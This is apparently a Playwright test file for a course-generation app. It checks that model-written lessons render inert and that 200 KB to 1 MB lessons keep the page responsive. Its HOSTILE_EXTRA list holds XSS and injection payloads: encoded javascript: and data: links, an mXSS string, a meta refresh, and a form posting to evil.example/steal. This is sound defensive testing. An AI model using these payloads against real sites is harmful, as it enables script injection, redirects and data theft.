// Untrusted model output in Chromium, the parts test/e2e/flows/untrusted-content.spec.ts
// (script tags, event handlers, javascript: links, remote images, CSS injection) does not
// cover: data:/vbscript:/encoded links, <base>/<meta refresh>/<form>/<object> and other
// page-level tags, then size — a 200 KB single-line lesson from the model and a 1 MB
// lesson saved in the editor must render without freezing the page. The figures go to
// test-results/soak/untrusted-output.json for the reliability soak (part 7).
import { mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { seedCourse } from './flows/seed';

const FIGURES = resolve(import.meta.dirname, '../../test-results/soak/untrusted-output.json');
const LOCAL = /^(https?|wss?):\/\/127\.0\.0\.1:\d+\//;

function saveFigures(figures: Record<string, number | string | boolean>): void {
  mkdirSync(dirname(FIGURES), { recursive: true });
  const previous = existsSync(FIGURES) ? (JSON.parse(readFileSync(FIGURES, 'utf8')) as Record<string, unknown>) : {};
  writeFileSync(FIGURES, `${JSON.stringify({ ...previous, ...figures, at: new Date().toISOString() }, null, 2)}\n`);
}

/** Dialogs, requests leaving 127.0.0.1, and navigations away from the app, as they happen. */
function watch(page: Page) {
  const seen = { dialogs: [] as string[], outside: [] as string[], frames: [] as string[] };
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (!LOCAL.test(url) && !/^(data|blob):/.test(url)) seen.outside.push(url);
  });
  page.on('framenavigated', (frame) => {
    if (!LOCAL.test(frame.url())) seen.frames.push(frame.url());
  });
  return seen;
}

/** Main-thread tasks over 50 ms, recorded from the first script of every page load. */
async function recordLongTasks(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { __longTasks: { at: number; ms: number }[] };
    w.__longTasks = [];
    new PerformanceObserver((list) => list.getEntries().forEach((e) => w.__longTasks.push({ at: e.startTime, ms: e.duration }))).observe({
      type: 'longtask',
      buffered: true,
    });
  });
}

type LongTask = { at: number; ms: number };
const longTasks = (page: Page) => page.evaluate(() => (window as unknown as { __longTasks: LongTask[] }).__longTasks.splice(0));
const longest = (tasks: LongTask[]) => tasks.reduce<LongTask>((a, b) => (b.ms > a.ms ? b : a), { at: NaN, ms: 0 });

/** How long a zero-delay timer takes to fire: the page's answer time to anything. */
const timerLag = (page: Page) => page.evaluate(() => new Promise<number>((r) => ((t) => setTimeout(() => r(performance.now() - t), 0))(performance.now())));

const HOSTILE_EXTRA = [
  '# Links that are not web links',
  '[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[data js](data:text/javascript,alert(1))',
  '[vb](vbscript:msgbox(1))',
  '[encoded](jav&#x61;script:alert(1))',
  '[spaced]( javascript:alert(1) )',
  '[upper](JAVASCRIPT:alert(1))',
  '[ref link][evil]',
  '<javascript:alert(1)>',
  '[titled](https://example.com/ok "onmouseover=alert(1)")',
  '![svg data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
  '![tracker](https://tracker.example/pixel.gif)',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/steal"><input name="q" value="x"><button>Send</button></form>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<style>@import url("https://evil.example/i.css");</style>',
  '<!-- <script>alert("comment")</script> -->',
  '<details open ontoggle="alert(\'toggle\')"><summary>s</summary></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("mxss")></style></mglyph></table></mtext></math>',
  '```html\n<script>alert("in code")</script>\n```',
  'Text after everything stays readable.',
  '',
  '[evil]: javascript:alert("ref")',
].join('\n\n');

test('links, embeds and page-level tags in model output render inert', async ({ app, control }) => {
  const seen = watch(app);
  await control.fake.content({ tool: 'submit_lessons', set: { content: HOSTILE_EXTRA } });
  const { courseId } = await seedCourse(control, 'Hostile links');
  await control.waitIdle();
  const [lesson] = await control.db<{ id: string }>(
    'SELECT l.id FROM lessons l JOIN projects p ON p.id = l.project_id WHERE p.course_id = ? ORDER BY p.position, l.position LIMIT 1',
    [courseId],
  );
  const origin = new URL(app.url()).origin;
  const lessonUrl = `${origin}/#/courses/${courseId}?lesson=${lesson!.id}`;
  await app.goto(lessonUrl);
  const md = app.locator('.lesson-content .markdown');
  await expect(md).toContainText('Text after everything stays readable.');
  const baseBefore = await app.evaluate(() => document.baseURI);

  const dom = await app.evaluate(() => {
    const root = document.querySelector('.lesson-content .markdown')!;
    return {
      hrefs: [...root.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? ''),
      pageTags: root.querySelectorAll('base, meta, form, input, button, link, object, embed, style, script, iframe, svg, math, details').length,
      imgs: [...root.querySelectorAll('img')].map((i) => i.getAttribute('src') ?? ''),
      handlers: [...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
      bases: document.querySelectorAll('base').length,
      refresh: document.querySelectorAll('meta[http-equiv="refresh" i]').length,
    };
  });
  expect(dom.hrefs.every((h) => /^(https?|mailto):/i.test(h)), `hrefs: ${dom.hrefs.join(' ')}`).toBe(true);
  expect(dom.pageTags).toBe(0);
  expect(dom.imgs).toEqual([]);
  expect(dom.handlers).toEqual([]);
  expect(dom).toMatchObject({ bases: 0, refresh: 0 });
  // The code block shows the script as text.
  await expect(md.locator('code')).toContainText('<script>alert("in code")</script>');

  // Clicking every link keeps the window where it is.
  for (const link of await md.locator('a').all()) await link.click();
  for (const text of ['data html', 'data js', 'vb', 'encoded', 'spaced', 'upper', 'ref link']) {
    const item = md.getByText(text, { exact: true });
    if ((await item.count()) > 0) await item.first().click();
  }
  await app.waitForTimeout(500);
  expect(app.url()).toBe(lessonUrl);
  expect(await app.evaluate(() => document.baseURI)).toBe(baseBefore);
  expect(seen.dialogs).toEqual([]);
  expect(seen.outside).toEqual([]);
  expect(seen.frames).toEqual([]);
  // Only the titled https link may have been handed to the OS browser.
  expect((await control.openedUrls()).every((u) => u === 'https://example.com/ok')).toBe(true);
  saveFigures({ hostileVariants: HOSTILE_EXTRA.split('\n\n').length, dialogs: seen.dialogs.length, requestsOutside: seen.outside.length });
});

/** Loads a lesson (a full page load), then scrolls it and leaves it, measuring what a person would feel. */
async function measureLesson(app: Page, url: string, first: string, marker: string, waitMs: number) {
  await recordLongTasks(app);
  await app.goto(url);
  // A long lesson renders piece by piece: its beginning shows first, the end some time later.
  // Only the first / last element is read while waiting: reading the text of the whole lesson
  // (what toContainText does) costs seconds on a 1 MB page and would be the freeze we measure.
  const edgeShows = (edge: 'firstElementChild' | 'lastElementChild', text: string) =>
    app
      .waitForFunction(([e, t]) => document.querySelector('.lesson-content .markdown')?.[e as 'firstElementChild']?.textContent?.includes(t as string) === true, [edge, text], {
        timeout: waitMs,
        polling: 100,
      })
      .then(() => true)
      .catch(() => false);
  const began = await edgeShows('firstElementChild', first);
  const firstContentMs = began ? await app.evaluate(() => performance.now()) : NaN;
  const appeared = await edgeShows('lastElementChild', marker);
  const renderedMs = await app.evaluate(() => performance.now());
  const tasksLoading = await longTasks(app);
  const worst = longest(tasksLoading);
  if (!appeared) {
    return { appeared, firstContentMs, renderedMs, longestLoadingMs: worst.ms, longestLoadingAtMs: worst.at, timerLagMs: NaN, longestScrollingMs: NaN, navigateAwayMs: NaN, overflowPx: NaN };
  }
  const timerLagMs = await timerLag(app);
  await app.evaluate(async () => {
    const el = document.scrollingElement!;
    for (let y = 0; y <= el.scrollHeight; y += Math.max(400, el.scrollHeight / 40)) {
      el.scrollTo(0, y);
      await new Promise((r) => requestAnimationFrame(() => r(null)));
    }
  });
  const tasksScrolling = await longTasks(app);
  const overflowPx = await app.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  const clicked = Date.now();
  await app.locator('.tree-overview').click();
  await expect(app.locator('.lesson-content .markdown').filter({ hasText: marker })).toHaveCount(0);
  return {
    appeared,
    firstContentMs,
    renderedMs,
    longestLoadingMs: worst.ms,
    /** When that task started, in ms after the page load began: before the first content is the app starting. */
    longestLoadingAtMs: worst.at,
    timerLagMs,
    longestScrollingMs: longest(tasksScrolling).ms,
    navigateAwayMs: Date.now() - clicked,
    overflowPx,
  };
}

type Measured = Awaited<ReturnType<typeof measureLesson>>;

/**
 * What must hold on any machine: the lesson shows, the page still answers, leaving works.
 * The time limits are goals, measured and judged by the soak (`npm run soak`, which sets
 * SOAK_LESSON_BYTES) — not asserted in `npm test`, where a busy machine would make them flaky.
 */
function expectResponsive(m: Measured, what: string) {
  expect(m.appeared, `${what}: shown within the wait`).toBe(true);
  expect(Number.isFinite(m.timerLagMs), `${what}: a timer fires once rendered`).toBe(true);
  expect(Number.isFinite(m.navigateAwayMs), `${what}: leaving the lesson works`).toBe(true);
  if (process.env['SOAK_LESSON_BYTES'] === undefined) return;
  expect(m.firstContentMs, `${what}: time from load to the lesson's beginning on screen`).toBeLessThan(5_000);
  expect(m.renderedMs, `${what}: time from load to the whole lesson rendered`).toBeLessThan(60_000);
  expect(m.longestLoadingMs, `${what}: no main-thread freeze over 1 s while it renders`).toBeLessThan(1_000);
  expect(m.timerLagMs, `${what}: a timer fires promptly once rendered`).toBeLessThan(250);
  expect(m.longestScrollingMs, `${what}: no long freeze while scrolling`).toBeLessThan(500);
  expect(m.navigateAwayMs, `${what}: leaving the lesson`).toBeLessThan(3_000);
}

const round = (m: Measured, prefix: string) =>
  Object.fromEntries(Object.entries(m).map(([k, v]) => [`${prefix}${k[0]!.toUpperCase()}${k.slice(1)}`, typeof v === 'number' ? (Number.isFinite(v) ? Math.round(v) : -1) : v]));

test('a 200 KB single-line lesson from the model renders, wraps and keeps the page responsive', async ({ app, control }) => {
  test.setTimeout(90_000);
  const seen = watch(app);
  // The longest lesson the model may return is 200,000 characters: one line of it, no newline,
  // ending in a 60,000-character unbreakable word.
  const words = 'lorem ipsum dolor sit amet '.repeat(5_200);
  const singleLine = `START ${words.slice(0, 139_500)} ${'x'.repeat(60_000)} END-OF-LINE`;
  // Room for it in one answer (64,000 tokens is the Settings maximum), and two lessons per
  // project so each answer carries one huge lesson and one short one.
  await control.call('settings.update', { maxTokens: 64_000 });
  await control.fake.content({
    tool: 'submit_lessons',
    input: { lessons: [{ title: 'Long line', content: singleLine, objectives: ['Scroll'] }, { title: 'Short', content: '# Short', objectives: ['Read'] }] },
  });
  const course = await control.call('courses.create', { topic: { topic: 'Huge line', projects: 3 } });
  const [option] = await control.call('courses.generateOutlines', { courseId: course.id, count: 1 });
  const outline = option!.outline;
  const twoEach = { ...outline, projects: outline.projects.map((p) => ({ ...p, lessons: [p.lessons[0]!, p.lessons[1] ?? { title: 'Second', summary: '' }] })) };
  await control.call('courses.chooseOption', { courseId: course.id, optionId: option!.id });
  await control.call('courses.editOutline', { courseId: course.id, outline: twoEach });
  await control.call('courses.approveOutline', { courseId: course.id, by: 'Soak', note: '' });
  const job = await control.call('jobs.enqueue', { courseId: course.id });
  await control.waitIdle();
  const [status] = await control.db<{ status: string; error_message: string | null }>('SELECT status, error_message FROM jobs WHERE id = ?', [job.id]);
  expect(status, 'the 200 KB lesson is generated and stored').toEqual({ status: 'completed', error_message: null });
  const [lesson] = await control.db<{ id: string; n: number }>(
    'SELECT l.id, length(l.content) AS n FROM lessons l JOIN projects p ON p.id = l.project_id WHERE p.course_id = ? ORDER BY p.position, l.position LIMIT 1',
    [course.id],
  );
  expect(lesson!.n).toBeGreaterThan(199_000);

  const m = await measureLesson(app, `${new URL(app.url()).origin}/?load=line#/courses/${course.id}?lesson=${lesson!.id}`, 'START', 'END-OF-LINE', 30_000);
  saveFigures(round(m, 'singleLine'));
  expectResponsive(m, '200 KB line');
  expect(m.overflowPx, 'the line wraps inside the page instead of widening it').toBeLessThanOrEqual(0);
  expect(seen.dialogs).toEqual([]);
  expect(seen.outside).toEqual([]);
});

// The soak (part 7) runs this with SOAK_LESSON_BYTES=1000000 and waits the render out to
// measure it; the e2e run uses 400 KB, which shows the same freeze in a few seconds.
const LESSON_BYTES = Number(process.env['SOAK_LESSON_BYTES'] ?? 400_000);

test(`a ${Math.round(LESSON_BYTES / 1000)} KB lesson renders without freezing the page`, async ({ app, control }) => {
  test.setTimeout(180_000);
  const seen = watch(app);
  const { courseId } = await seedCourse(control, 'Huge lesson');
  await control.waitIdle();
  const [lesson] = await control.db<{ id: string }>(
    'SELECT l.id FROM lessons l JOIN projects p ON p.id = l.project_id WHERE p.course_id = ? ORDER BY p.position, l.position LIMIT 1',
    [courseId],
  );
  // Ordinary Markdown (headings, lists, tables, code, links) up to LESSON_BYTES; the editor accepts 1 MB.
  const block = (i: number) =>
    `## Section ${i}\n\nSome **bold** and _italic_ text with a [link](https://example.com/${i}) and \`code\`.\n\n- item one\n- item two\n  - nested\n\n| a | b |\n| - | - |\n| ${i} | ${i * 2} |\n\n\`\`\`js\nconst x${i} = ${i};\n\`\`\`\n\n> quoted ${i}\n\n`;
  let big = '# A very long lesson\n\n';
  for (let i = 0; big.length < LESSON_BYTES - 1_000; i++) big += block(i);
  big = `${big.slice(0, LESSON_BYTES - 1_000)}\n\nEND-OF-LESSON\n`;
  await control.call('lessons.update', { lessonId: lesson!.id, title: 'Very long', content: big, objectives: ['Read it all'] });

  const m = await measureLesson(app, `${new URL(app.url()).origin}/?load=big#/courses/${courseId}?lesson=${lesson!.id}`, 'A very long lesson', 'END-OF-LESSON', 120_000);
  saveFigures({ ...round(m, 'bigLesson'), bigLessonBytes: big.length });
  expect(seen.dialogs).toEqual([]);
  expect(seen.outside).toEqual([]);
  expectResponsive(m, `${Math.round(LESSON_BYTES / 1000)} KB lesson`);
});
